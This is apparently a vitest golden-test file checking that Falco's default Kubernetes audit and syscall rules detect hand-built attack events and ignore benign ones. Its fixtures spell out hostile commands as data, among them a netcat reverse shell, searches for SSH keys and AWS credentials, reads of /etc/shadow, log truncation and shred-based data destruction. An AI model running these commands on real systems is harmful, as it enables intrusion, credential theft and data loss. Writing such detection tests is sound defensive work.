/**
 * Golden tests: Falco's own default rules files, loaded unchanged from ../shared/corpus/falco,
 * fire the rule each hand-written event describes — 27 audit rules (k8saudit
 * k8s_audit_rules.yaml) and 14 syscall rules (falcosecurity/rules falco_rules.yaml) — and stay
 * quiet on the benign twin of a few. Every rule runs (`rule_matching: all`) so that one event's
 * expected rule is checked even when an earlier rule also matches it.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadRules, makeEvent, RuntimeEngine, type RuntimeEvent } from '../../src/runtime/index.ts';
import { corpusDir } from '../helpers/corpus.ts';

const base = corpusDir('falco');

function engineFor(files: string[], extra?: string): RuntimeEngine {
  const texts = files.map((f) => ({ name: f, text: readFileSync(join(base!, f), 'utf8') }));
  if (extra) texts.push({ name: 'local.yaml', text: extra });
  const result = loadRules(texts);
  expect(result.errors).toEqual([]);
  return new RuntimeEngine(result.ruleset!, { ruleMatching: 'all' });
}

const fired = (engine: RuntimeEngine, evt: RuntimeEvent) => engine.evaluate(evt).map((r) => r.name);

// ── audit events ──────────────────────────────────────────────────────────

let auditSeq = 0;
const time = { sec: 1714557600, nsec: 123456000 };

interface AuditSpec {
  verb: string;
  resource?: string;
  subresource?: string;
  namespace?: string;
  name?: string;
  user?: string;
  stage?: string;
  code?: number;
  decision?: string;
  uri?: string;
  requestObject?: unknown;
}

function audit(spec: AuditSpec): RuntimeEvent {
  const objectRef: Record<string, unknown> = {};
  if (spec.resource) objectRef.resource = spec.resource;
  if (spec.subresource) objectRef.subresource = spec.subresource;
  if (spec.namespace) objectRef.namespace = spec.namespace;
  if (spec.name) objectRef.name = spec.name;
  const data: Record<string, unknown> = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: `audit-${++auditSeq}`,
    stage: spec.stage ?? 'ResponseComplete',
    requestURI: spec.uri ?? `/api/v1/${spec.namespace ? `namespaces/${spec.namespace}/` : ''}${spec.resource ?? ''}`,
    verb: spec.verb,
    user: { username: spec.user ?? 'minikube', groups: ['system:masters', 'system:authenticated'] },
    sourceIPs: ['192.168.49.1'],
    userAgent: 'kubectl/v1.30.0',
    objectRef,
    responseStatus: { metadata: {}, code: spec.code ?? 201 },
    stageTimestamp: '2024-05-01T10:00:00.123456Z',
    annotations: { 'authorization.k8s.io/decision': spec.decision ?? 'allow', 'authorization.k8s.io/reason': '' },
  };
  if (spec.requestObject !== undefined) data.requestObject = spec.requestObject;
  return makeEvent('k8s_audit', data, time, auditSeq);
}

const pod = (spec: Record<string, unknown>, containers: Record<string, unknown>[] = [{ name: 'app', image: 'nginx:1.25' }]) => ({
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: { name: 'web' },
  spec: { containers, ...spec },
});

const createPod = (spec: Record<string, unknown>, containers?: Record<string, unknown>[], namespace = 'default') =>
  audit({ verb: 'create', resource: 'pods', namespace, requestObject: pod(spec, containers) });

const AUDIT_CASES: [string, RuntimeEvent][] = [
  ['Disallowed K8s User', audit({ verb: 'get', resource: 'pods', namespace: 'default', user: 'mallory', code: 200 })],
  ['Create Privileged Pod', createPod({}, [{ name: 'app', image: 'nginx', securityContext: { privileged: true } }])],
  ['Create Privileged Pod', createPod({ initContainers: [{ name: 'init', image: 'busybox', securityContext: { privileged: true } }] })],
  ['Create Sensitive Mount Pod', createPod({ volumes: [{ name: 'etc', hostPath: { path: '/etc' } }] })],
  ['Create HostNetwork Pod', createPod({ hostNetwork: true })],
  ['Create HostPid Pod', createPod({ hostPID: true })],
  ['Create HostIPC Pod', createPod({ hostIPC: true })],
  ['Create NodePort Service', audit({ verb: 'create', resource: 'services', namespace: 'default', name: 'web', requestObject: { kind: 'Service', spec: { type: 'NodePort', ports: [{ port: 80 }] } } })],
  ['Create/Modify Configmap With Private Credentials', audit({ verb: 'update', resource: 'configmaps', namespace: 'default', name: 'cfg', requestObject: { kind: 'ConfigMap', data: { 'db.conf': 'password=hunter2' } } })],
  ['Anonymous Request Allowed', audit({ verb: 'get', user: 'system:anonymous', uri: '/api/v1/namespaces', resource: 'namespaces', code: 200 })],
  ['Attach/Exec Pod', audit({ verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'default', name: 'web', stage: 'ResponseStarted', code: 101, uri: '/api/v1/namespaces/default/pods/web/exec?command=sh&stdin=true' })],
  ['port-forward', audit({ verb: 'create', resource: 'pods', subresource: 'portforward', namespace: 'default', name: 'web' })],
  ['EphemeralContainers Created', audit({ verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'default', name: 'web', code: 200, requestObject: { ephemeralContainers: [{ name: 'debugger', image: 'busybox' }] } })],
  ['Create Disallowed Namespace', audit({ verb: 'create', resource: 'namespaces', name: 'crypto-miner' })],
  ['Pod Created in Kube Namespace', createPod({}, undefined, 'kube-system')],
  ['Service Account Created in Kube Namespace', audit({ verb: 'create', resource: 'serviceaccounts', namespace: 'kube-system', name: 'backdoor' })],
  ['System ClusterRole Modified/Deleted', audit({ verb: 'update', resource: 'clusterroles', name: 'system:node', code: 200 })],
  ['Attach to cluster-admin Role', audit({ verb: 'create', resource: 'clusterrolebindings', name: 'pwn', requestObject: { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'mallory' }] } })],
  ['ClusterRole With Wildcard Created', audit({ verb: 'create', resource: 'clusterroles', name: 'everything', requestObject: { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['get'] }] } })],
  ['ClusterRole With Write Privileges Created', audit({ verb: 'create', resource: 'roles', namespace: 'default', name: 'writer', requestObject: { rules: [{ apiGroups: [''], resources: ['configmaps'], verbs: ['create', 'update'] }] } })],
  ['ClusterRole With Pod Exec Created', audit({ verb: 'create', resource: 'clusterroles', name: 'exec', requestObject: { rules: [{ apiGroups: [''], resources: ['pods/exec'], verbs: ['create'] }] } })],
  ['K8s Deployment Created', audit({ verb: 'create', resource: 'deployments', namespace: 'default', name: 'web' })],
  ['K8s Secret Get Successfully', audit({ verb: 'get', resource: 'secrets', namespace: 'default', name: 'db-password', code: 200 })],
  ['K8s Secret Get Unsuccessfully Tried', audit({ verb: 'get', resource: 'secrets', namespace: 'default', name: 'db-password', code: 403, decision: 'forbid' })],
  ['Ingress Object without TLS Certificate Created', audit({ verb: 'create', resource: 'ingresses', namespace: 'default', name: 'web', requestObject: { spec: { rules: [] } } })],
  ['K8s Namespace Deleted', audit({ verb: 'delete', resource: 'namespaces', name: 'staging', code: 200 })],
  ['K8s RoleBinding Created', audit({ verb: 'create', resource: 'rolebindings', namespace: 'default', name: 'rb', requestObject: { roleRef: { name: 'view' }, subjects: [] } })],
];

// ── syscall events ────────────────────────────────────────────────────────

let sysSeq = 0;
const sys = (fields: Record<string, unknown>) =>
  makeEvent('syscall', { 'user.name': 'root', 'user.uid': 0, 'user.loginuid': -1, 'proc.tty': 0, ...fields }, time, ++sysSeq);

const inContainer = { 'container.id': '3ad7b26ded6d', 'container.image.repository': 'docker.io/library/ubuntu' };
const exec = (cmdline: string, more: Record<string, unknown> = {}) => {
  const [name, ...args] = cmdline.split(' ');
  return sys({ 'evt.type': 'execve', 'proc.name': name, 'proc.exepath': `/usr/bin/${name}`, 'proc.args': args.join(' '), 'proc.cmdline': cmdline, 'proc.pname': 'bash', ...more });
};

const SYSCALL_CASES: [string, RuntimeEvent][] = [
  ['Terminal shell in container', exec('bash', { ...inContainer, 'proc.tty': 34816, 'proc.pname': 'containerd-shim' })],
  ['Netcat Remote Code Execution in Container', exec('nc -e /bin/sh 10.0.0.2 4444', inContainer)],
  ['Search Private Keys or Passwords', exec('find / -name id_rsa')],
  ['Find AWS Credentials', exec('find / -name .aws/credentials')],
  ['Remove Bulk Data from Disk', exec('shred -u /var/lib/db/data')],
  ['Execution from /dev/shm', exec('/dev/shm/x', { 'proc.exe': '/dev/shm/x', 'proc.name': 'x' })],
  ['Drop and execute new binary in container', exec('miner --pool x', { ...inContainer, 'proc.is_exe_upper_layer': true })],
  ['Fileless execution via memfd_create', exec('memfd:payload', { 'proc.is_exe_from_memfd': true })],
  ['Debugfs Launched in Privileged Container', exec('debugfs /dev/sda1', { ...inContainer, 'container.privileged': true })],
  ['Read sensitive file untrusted', sys({ 'evt.type': 'openat', 'proc.name': 'python3', 'proc.cmdline': 'python3 steal.py', 'fd.name': '/etc/shadow', 'fd.typechar': 'f', 'fd.num': 5, 'evt.arg.flags': 'O_RDONLY|O_CLOEXEC' })],
  ['Clear Log Activities', sys({ 'evt.type': 'openat', 'proc.name': 'python3', 'fd.name': '/var/log/auth.log', 'fd.typechar': 'f', 'fd.num': 3, 'evt.arg.flags': 'O_WRONLY|O_TRUNC' })],
  ['Create Symlink Over Sensitive Files', sys({ 'evt.type': 'symlinkat', 'proc.name': 'ln', 'evt.arg.target': '/etc/shadow', 'evt.arg.linkpath': '/tmp/s' })],
  ['Packet socket created in container', sys({ 'evt.type': 'socket', 'proc.name': 'tcpdump', ...inContainer, 'evt.arg.domain': 'AF_PACKET' })],
  ['Contact K8S API Server From Container', sys({ 'evt.type': 'connect', 'proc.name': 'curl', ...inContainer, 'fd.typechar': '4', 'fd.name': '10.1.0.5:41234->10.96.0.1:443', 'fd.sip.name': 'kubernetes.default.svc.cluster.local' })],
  ['PTRACE anti-debug attempt', sys({ 'evt.type': 'ptrace', 'proc.name': 'malware', 'evt.arg.request': 'PTRACE_TRACEME' })],
];

describe.skipIf(!base)('Falco default rules fire on the events they describe', () => {
  describe('k8saudit k8s_audit_rules.yaml', () => {
    const engine = base ? engineFor(['plugins/k8saudit/rules/k8s_audit_rules.yaml']) : undefined;
    it.each(AUDIT_CASES)('%s', (rule, evt) => {
      expect(fired(engine!, evt)).toContain(rule);
    });

    it('covers at least 20 distinct audit rules', () => {
      expect(new Set(AUDIT_CASES.map(([r]) => r)).size).toBeGreaterThanOrEqual(20);
    });

    it('stays quiet on benign twins', () => {
      expect(fired(engine!, createPod({}))).toEqual([]);
      expect(fired(engine!, createPod({ hostNetwork: false }))).toEqual([]);
      expect(fired(engine!, audit({ verb: 'get', user: 'system:anonymous', uri: '/healthz', code: 200 }))).toEqual([]);
      expect(fired(engine!, audit({ verb: 'create', resource: 'namespaces', name: 'kube-public' }))).toEqual(['K8s Namespace Created']);
    });

    it('honours a local override layered after the defaults (Falco rules_files order)', () => {
      const layered = engineFor(
        ['plugins/k8saudit/rules/k8s_audit_rules.yaml'],
        '- macro: allowed_k8s_containers\n  condition: (ka.req.pod.containers.image.repository in (registry.example/app))\n',
      );
      expect(fired(layered, createPod({}))).toContain('Create Disallowed Pod');
      expect(fired(layered, createPod({}, [{ name: 'app', image: 'registry.example/app:2.0' }]))).not.toContain('Create Disallowed Pod');
    });
  });

  describe('falcosecurity/rules falco_rules.yaml', () => {
    const engine = base ? engineFor(['rules/rules/falco_rules.yaml']) : undefined;
    it.each(SYSCALL_CASES)('%s', (rule, evt) => {
      expect(fired(engine!, evt)).toContain(rule);
    });

    it('stays quiet on benign twins', () => {
      expect(fired(engine!, exec('bash', { ...inContainer, 'proc.tty': 0, 'proc.pname': 'containerd-shim' }))).toEqual([]);
      expect(fired(engine!, exec('nc -z 10.0.0.2 80', inContainer))).toEqual([]);
      expect(fired(engine!, sys({ 'evt.type': 'openat', 'proc.name': 'python3', 'fd.name': '/etc/hosts', 'fd.typechar': 'f', 'fd.num': 5, 'evt.arg.flags': 'O_RDONLY' }))).toEqual([]);
      expect(fired(engine!, exec('debugfs /dev/sda1', { ...inContainer, 'container.privileged': false }))).toEqual([]);
    });
  });
});
